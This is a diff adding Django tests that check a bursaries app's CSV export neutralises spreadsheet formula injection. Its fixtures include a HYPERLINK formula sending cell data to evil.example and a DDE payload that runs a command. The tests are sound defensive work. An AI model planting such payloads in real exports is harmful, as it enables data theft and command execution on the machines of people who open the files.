@@ -770,6 +770,37 @@ def test_the_csv_export_has_figures_but_no_personal_data(
     assert AuditEvent.objects.filter(action="application.export", actor=programme_staff).exists()
 
 
+def test_the_csv_export_cannot_carry_a_spreadsheet_formula(
+    client, submit, programme_staff, opportunity, partner, fund
+):
+    opportunity.title = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
+    opportunity.save()
+    fund.name = "+SUM(1,2)"
+    fund.save()
+    partner.name = "@cmd|' /C calc'!A0"
+    partner.save()
+    submit(referrer_organisation=partner, referrer_consent=True)
+    client.force_login(programme_staff)
+
+    response = bulk(client, "export_csv", Application.objects.all())
+
+    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert row["opportunity"] == "'" + opportunity.title
+    assert row["fund"] == "'+SUM(1,2)"
+    assert row["referred_by"] == "'@cmd|' /C calc'!A0"
+    assert row["requested"] == "120.00"  # numbers stay numbers
+    assert row["status"] == "submitted"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralised(start):
+    from bursaries.admin import spreadsheet_safe
+
+    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
+    assert spreadsheet_safe(f"a{start}") == f"a{start}"
+    assert spreadsheet_safe(Decimal("-1")) == Decimal("-1")
+
+
 # Audit and failed messages ----------------------------------------------------------------------
 
 
